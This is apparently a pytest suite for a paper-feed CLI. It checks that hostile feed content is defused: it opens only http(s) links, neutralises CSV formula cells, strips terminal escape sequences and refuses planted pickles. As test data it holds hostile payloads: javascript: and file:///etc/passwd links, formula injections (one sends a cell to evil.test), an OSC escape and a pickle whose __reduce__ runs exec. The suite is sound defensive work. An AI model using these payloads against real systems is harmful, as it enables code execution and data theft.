"""Untrusted text stays data (issue 19, item 4): links a feed wrote are opened and linked
only when they are http(s); CSV cells a spreadsheet would run are neutralised; followed
names never replay control characters; the feature store holds no pickle and heals
itself when damaged.  Everything through the real CLI, a loopback feed server, a
stand-in browser (``$BROWSER``) and Python's csv module reading the files back."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from conftest import FeedServer, Result
from feedgen import journal_rss1

Hub = Callable[..., Result]
CONTROL_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

HOSTILE_LINKS = {
    "10.5555/h.1": "javascript:alert(document.cookie)",
    "10.5555/h.2": "data:text/html,<script>alert(1)</script>",
    "10.5555/h.3": "file:///etc/passwd",
    "10.5555/h.4": "vscode://file/etc/passwd",
    "10.5555/h.5": "JaVaScRiPt:alert(1)",
    "10.5555/h.6": "java\tscript:alert(1)",
}
FORMULAS = ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|'/c calc'!A1"]


def _sync_hostile(feed_server: FeedServer, hub: Hub) -> None:
    items: list[dict[str, object]] = [
        {"link": link, "title": f"Paper {doi}", "doi": doi} for doi, link in HOSTILE_LINKS.items()]
    items.append({"link": "https://good.test/paper?a=1&b=2", "title": "A good paper", "doi": "10.5555/g.1"})
    items += [{"link": f"https://good.test/f{n}", "title": text, "doi": f"10.5555/f.{n}", "authors": [text],
               "abstract": text + " abstract"} for n, text in enumerate(FORMULAS)]
    items.append({"link": "https://good.test/md", "title": "See [x](javascript:alert(1)) and <javascript:alert(2)>",
                  "doi": "10.5555/m.1", "abstract": "Math $a_1 < b$ and [y](data:text/html,z)"})
    url = feed_server.serve("/hostile.rss", journal_rss1("Journal of Hostility", items))
    result = hub("sync", url)
    assert result.exit_code == 0, result.stderr


# --- hub open: http(s) only ------------------------------------------------------------------------

@pytest.mark.parametrize("doi", sorted(HOSTILE_LINKS))
def test_open_refuses_every_link_that_is_not_http(feed_server: FeedServer, hub: Hub, browser: Path,
                                                   doi: str) -> None:
    _sync_hostile(feed_server, hub)

    result = hub("open", doi)

    assert result.exit_code == 1
    assert not browser.exists(), browser.read_text()  # the stand-in browser was never run
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "http(s)" in lines[0], result.stderr
    assert "<script>" not in result.stderr and "passwd" not in result.stderr
    assert not CONTROL_RE.search(result.stderr)


def test_open_still_opens_https_and_refuses_in_chinese(feed_server: FeedServer, hub: Hub, browser: Path) -> None:
    _sync_hostile(feed_server, hub)

    ok = hub("open", "10.5555/g.1")
    zh = hub("--lang", "zh", "open", "10.5555/h.1")

    assert ok.exit_code == 0, ok.stderr
    assert browser.read_text().splitlines() == ["https://good.test/paper?a=1&b=2"]
    assert zh.exit_code == 1 and "只打开 http(s) 链接" in zh.stderr and "javascript:" in zh.stderr


# --- CSV: OWASP's rule, read back by a spreadsheet-style reader ---------------------------------

def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(feed_server: FeedServer, hub: Hub,
                                                          tmp_path: Path) -> None:
    _sync_hostile(feed_server, hub)
    assert hub("save", "10.5555/f.0", "10.5555/f.1", "10.5555/f.2", "10.5555/f.3").exit_code == 0
    out = tmp_path / "export.csv"
    lib = tmp_path / "library.csv"

    listing = hub("papers", "--format", "csv", "-n", "100")
    export = hub("export", "--format", "csv", "--output", str(out))
    library = hub("library", "export", "--format", "csv", "--output", str(lib))

    assert listing.exit_code == 0 and export.exit_code == 0 and library.exit_code == 0, library.stderr
    for text in (listing.stdout, out.read_text("utf-8"), lib.read_text("utf-8")):
        rows = _rows(text)
        by_doi = {r["doi"]: r for r in rows}
        for n, formula in enumerate(FORMULAS):
            row = by_doi[f"10.5555/f.{n}"]
            assert row["title"] == "'" + formula, row
            assert row["abstract"] == "'" + formula + " abstract", row
            assert row["authors"].startswith("'" + formula[0]), row
        for row in rows:  # no cell of any row starts a formula
            assert not [v for v in row.values() if v and v[0] in "=+-@\t\r"], row
        # a text that does not start with one is left exactly as it was
        assert by_doi["10.5555/f.0"]["url"] == "https://good.test/f0"
    good = _rows(listing.stdout)
    assert [r for r in good if r["doi"] == "10.5555/g.1"][0]["title"] == "A good paper"


def test_csv_cell_rule() -> None:
    from hubcli.render.formats import csv_cell

    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "a=1", "", None, 3, "'=1")] == [
        "'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1", "a=1", "", "", "3", "'=1"]


# --- Markdown: non-http(s) links are text ----------------------------------------------------

def _links_in(markdown: str) -> list[str]:
    """Every link a CommonMark renderer (markdown-it) makes of the text, raw HTML's too."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True  # type: ignore[method-assign]  # a renderer that trusts every scheme
    found = []
    for token in md.parse(markdown):
        raw = [token] if token.type == "html_block" else [c for c in token.children or [] if c.type == "html_inline"]
        for html in raw:  # raw HTML a renderer passes on: its links count too
            found += re.findall(r"""(?:href|src)\s*=\s*["']?([^"' >]*)""", html.content, re.IGNORECASE)
        for child in token.children or []:
            if child.type == "link_open":
                found.append(str(child.attrGet("href")))
    return found


def test_markdown_listings_link_http_only(feed_server: FeedServer, hub: Hub, tmp_path: Path) -> None:
    _sync_hostile(feed_server, hub)
    assert hub("save", *HOSTILE_LINKS, "10.5555/m.1", "10.5555/g.1").exit_code == 0
    out, lib = tmp_path / "e.md", tmp_path / "l.md"

    listing = hub("papers", "--format", "markdown", "-n", "100")
    export = hub("export", "--format", "markdown", "--output", str(out))
    library = hub("library", "export", "--format", "markdown", "--output", str(lib))

    assert listing.exit_code == 0 and export.exit_code == 0 and library.exit_code == 0, library.stderr

    for text in (listing.stdout, out.read_text("utf-8"), lib.read_text("utf-8")):
        links = _links_in(text)
        assert "https://good.test/paper?a=1&b=2" in links, links
        assert all(link.startswith(("https://", "http://")) for link in links), links
        assert "Paper 10.5555/h.1" in text  # the paper itself is listed, as text
        assert "Math a₁ \\< b" in text  # mathematics readable (render/latex.py), still escaped


def test_the_digest_links_http_only_in_markdown_and_html(feed_server: FeedServer, hub: Hub, tmp_path: Path) -> None:
    items: list[dict[str, object]] = [
        {"link": link, "title": f"Hostile [x](javascript:alert({n})) <javascript:y> paper {n}", "doi": doi,
         "authors": ["Eve Hostile"], "abstract": f"Click [here](data:text/html,{n}) now. Math $a<b$."}
        for n, (doi, link) in enumerate(HOSTILE_LINKS.items())]
    items.append({"link": "https://good.test/ok", "title": "A good paper", "doi": "10.5555/g.9",
                  "authors": ["Eve Hostile"]})
    url = feed_server.serve("/digest.rss", journal_rss1("Journal of Hostility", items))
    assert hub("sync", url).exit_code == 0
    assert hub("follow", "Eve Hostile").exit_code == 0
    md, page = tmp_path / "d.md", tmp_path / "d.html"

    result = hub("digest", "--no-sync", "--to", str(md), "--to", str(page))

    assert result.exit_code == 0, result.stderr
    text = md.read_text("utf-8")
    links = _links_in(text)
    assert "https://good.test/ok" in links and all(x.startswith(("https://", "http://")) for x in links), links
    assert "Hostile" in text and "paper 0" in text  # every hostile paper is there, as text
    hrefs = re.findall(r"""(?:href|src|action)\s*=\s*["']?([^"' >]*)""", page.read_text("utf-8"), re.IGNORECASE)
    assert "https://good.test/ok" in hrefs
    assert all(h.startswith(("https://", "http://", "#")) for h in hrefs), hrefs


def test_brief_references_link_http_only() -> None:
    from hubcli.brief.cite import reference
    from hubcli.models import Paper

    bad = [Paper(key=f"k{n}", title="T", authors=["A"], url=url) for n, url in enumerate(HOSTILE_LINKS.values())]
    good = Paper(key="g", title="T", authors=["A"], url="https://good.test/x")
    doi = Paper(key="d", title="T", authors=["A"], url="javascript:alert(1)", doi="10.5555/d.1")
    for paper in bad:
        line = reference(1, paper, et_al="et al.")
        assert _links_in(line) == [], line
    assert _links_in(reference(1, good, et_al="et al.")) == ["https://good.test/x"]
    assert _links_in(reference(1, doi, et_al="et al.")) == ["https://doi.org/10.5555/d.1"]


def test_model_markdown_links_become_text() -> None:
    from hubcli.render.markdown import defang_links

    answer = ("See [this](javascript:alert(1)), [that](<data:text/html,x>), <javascript:alert(2)>, "
              "<a href='javascript:alert(4)'>raw</a>, <img src=x onerror=alert(5)>, \\<a href=\"vbscript:x\">, "
              "<vscode://x>, [ok](https://ok.test/a) and <https://ok.test/b>.\n\n"
              "[ref]: javascript:alert(3)\n\n[ref] again, math $[a](b:c)$ and `[c](javascript:d)` kept.\n")
    out = defang_links(answer)

    assert _links_in(out) == ["https://ok.test/a", "https://ok.test/b"], out
    assert "$[a] (b:c)$" in out and "`[c](javascript:d)`" in out
    assert "javascript:alert(1)" in out  # still there, as text


_PIECES = ["[", "]", "(", ")", "<", ">", "javascript:x", "https://a.b", "\\", " ", "\n", ":", "a", "`", "$", "!",
           '"', "'", "&#106;", "jav&#97;script:", "*", "\t", "   ", "href=", "<a ", "data:", "mailto:a@b.c", "a@b.c",
           "\n\n", "-", "#", "/", "HTTPS://", "```", "~~~", "$$", "\\(", "\\[", "<!--", "-->", "<?", "![", "   ["]


@pytest.mark.slow  # 1,500 examples
def test_no_markdown_makes_a_link_that_is_not_http_after_defang_links() -> None:
    """A property (hypothesis): whatever a model writes from these pieces, markdown-it set to
    trust every scheme finds only http(s) links in what hub writes (40,000 examples found no
    counterexample when this was written; the suite runs 1,500)."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from hubcli.render.markdown import defang_links

    @settings(max_examples=1500, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(st.lists(st.sampled_from(_PIECES), max_size=25).map("".join))
    def check(text: str) -> None:
        links = _links_in(defang_links(text))
        assert all(link.lower().startswith(("https://", "http://")) for link in links), (text, links)

    check()


# --- following: names cleaned -----------------------------------------------------------------

def test_following_never_replays_control_characters(hub: Hub) -> None:
    name = "Ada\x1b]8;;http://evil.test\x07Lovelace\x1b[2J\u202eevil"
    followed = hub("follow", name)
    listing = hub("following")
    as_json = hub("following", "--json")

    assert followed.exit_code == 0, followed.stderr
    for result in (followed, listing, as_json):
        assert not CONTROL_RE.search(result.stdout + result.stderr), repr(result.stdout + result.stderr)
    assert "Ada" in listing.stdout and "Lovelace" in listing.stdout
    assert "\x1b" not in json.dumps(json.loads(as_json.stdout), ensure_ascii=False)


def test_following_cleans_names_stored_before(hub: Hub) -> None:
    """A name stored by an older hub, controls and all, is shown clean."""
    assert hub("follow", "Grace Hopper").exit_code == 0
    import sqlite3

    from hubcli.config import resolve_paths

    database = resolve_paths().database
    home = database.parent  # the follows live in the cache or (since the library file) beside it
    path = next(p for p in sorted(home.glob("*.db"))
                if any("follow" in r[0] for r in sqlite3.connect(p).execute(
                    "SELECT name FROM sqlite_master WHERE type='table'")))
    conn = sqlite3.connect(path)
    tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
    table = next(t for t in tables if "follow" in t)
    columns = [r[1] for r in conn.execute(f"PRAGMA table_info({table})")]
    column = next(c for c in ("value", "name", "query") if c in columns)
    conn.execute(f"UPDATE {table} SET {column} = ?", ("Grace\x1b[31m Hopper\x07",))
    conn.commit()
    conn.close()

    listing = hub("following")

    assert listing.exit_code == 0 and "Grace" in listing.stdout
    assert not CONTROL_RE.search(listing.stdout + listing.stderr), repr(listing.stdout)



# --- the feature store: no pickle, healed when damaged ----------------------------------------

WORDS = ["graph neural networks for molecules", "protein folding with diffusion", "quantum error correction codes",
         "reinforcement learning for robots", "language model alignment", "galaxy cluster lensing"]


class _Planted:
    """Unpickling this runs code: it writes ``marker``."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (f"open({str(self.marker)!r}, 'w').write('ran')",)


def _library(feed_server: FeedServer, hub: Hub, db: Path) -> None:
    items: list[dict[str, object]] = [
        {"link": f"https://good.test/r{n}", "title": f"{WORDS[n % 6]} study {n}", "doi": f"10.5555/r.{n}",
         "abstract": f"We study {WORDS[n % 6]} and {WORDS[(n + 1) % 6]} in setting {n}.", "authors": [f"Author {n}"]}
        for n in range(36)]
    url = feed_server.serve("/r.rss", journal_rss1("Journal of Ranking", items))
    assert hub("--db", str(db), "sync", url).exit_code == 0
    assert hub("--db", str(db), "save", "10.5555/r.0", "10.5555/r.6", "10.5555/r.12").exit_code == 0


def _plant(root: Path, marker: Path, manifest: dict[str, object], vocab: str) -> None:
    import pickle

    root.mkdir(parents=True, exist_ok=True)
    (root / vocab).write_bytes(pickle.dumps(_Planted(marker)))
    (root / "terms-00000.txt").write_text("graph\nprotein", "utf-8")
    (root / "manifest.json").write_text(json.dumps(manifest), "utf-8")


@pytest.mark.parametrize("fmt,vocab", [(2, "vocab-00000.pkl"), (3, "idf-00000.npy")])
def test_a_planted_pickle_beside_the_database_never_runs(feed_server: FeedServer, hub: Hub, tmp_path: Path,
                                                         fmt: int, vocab: str) -> None:
    db = tmp_path / "shared" / "hub.db"
    _library(feed_server, hub, db)
    marker = tmp_path / "marker"
    manifest = {"format": fmt, "fitted_on": 36, "n_features": 2, "vocab": vocab, "terms": "terms-00000.txt",
                "mark": "", "chunks": [], "rows": 0, "next": 1, "index": None}
    _plant(Path(str(db) + ".features"), marker, manifest, vocab)

    recommend = hub("--db", str(db), "recommend", "--since", "5000d", "--format", "json")
    similar = hub("--db", str(db), "similar", "10.5555/r.0", "--format", "json")

    assert not marker.exists()  # the planted code never ran
    assert recommend.exit_code == 0 and similar.exit_code == 0, recommend.stderr + similar.stderr
    assert isinstance(json.loads(recommend.stdout), list) and json.loads(similar.stdout)
    root = Path(str(db) + ".features")
    assert not list(root.glob("*.pkl"))  # the old store was replaced
    assert json.loads((root / "manifest.json").read_text())["format"] == 3


def test_a_truncated_chunk_is_rebuilt_with_one_line(feed_server: FeedServer, hub: Hub, tmp_path: Path) -> None:
    db = tmp_path / "hub.db"
    _library(feed_server, hub, db)
    first = hub("--db", str(db), "recommend", "--since", "5000d", "--format", "json")
    like = hub("--db", str(db), "similar", "10.5555/r.0", "--format", "json")
    assert first.exit_code == 0 and like.exit_code == 0, first.stderr
    root = Path(str(db) + ".features")
    manifest = json.loads((root / "manifest.json").read_text())
    data = root / manifest["chunks"][0] / "data.npy"
    data.write_bytes(data.read_bytes()[:200])  # cut short, as a full disk or a crash leaves it

    again = hub("--db", str(db), "recommend", "--since", "5000d", "--format", "json")
    similar = hub("--db", str(db), "similar", "10.5555/r.0", "--format", "json")

    assert again.exit_code == 0, again.stderr
    assert json.loads(again.stdout) == json.loads(first.stdout)
    lines = again.stderr.splitlines()
    assert [line for line in lines if "damaged" in line and "rebuil" in line] == lines[:1], again.stderr
    assert similar.exit_code == 0 and "damaged" not in similar.stderr, similar.stderr  # healed once
    assert json.loads(similar.stdout) == json.loads(like.stdout) and json.loads(like.stdout)


@pytest.mark.parametrize("damage", ["missing chunk", "index cut", "idf pickled", "live cut"])
def test_other_damage_is_rebuilt_too(feed_server: FeedServer, hub: Hub, tmp_path: Path, damage: str) -> None:
    import shutil

    import numpy as np

    db = tmp_path / "hub.db"
    _library(feed_server, hub, db)
    first = hub("--db", str(db), "similar", "10.5555/r.0", "--format", "json")
    root = Path(str(db) + ".features")
    manifest = json.loads((root / "manifest.json").read_text())
    if damage == "missing chunk":
        shutil.rmtree(root / manifest["chunks"][0])
    elif damage == "index cut":
        path = root / f"loc-{manifest['index']}.npy"
        path.write_bytes(path.read_bytes()[:-8])
    elif damage == "idf pickled":
        np.save(root / manifest["vocab"], np.array([object()], dtype=object), allow_pickle=True)
    else:
        path = root / manifest["chunks"][0] / "live.npy"
        path.write_bytes(path.read_bytes()[:-3])

    again = hub("--db", str(db), "similar", "10.5555/r.0", "--format", "json")

    assert again.exit_code == 0, again.stderr
    assert json.loads(again.stdout) == json.loads(first.stdout)
    assert "damaged" in again.stderr and len(again.stderr.splitlines()) == 1, again.stderr
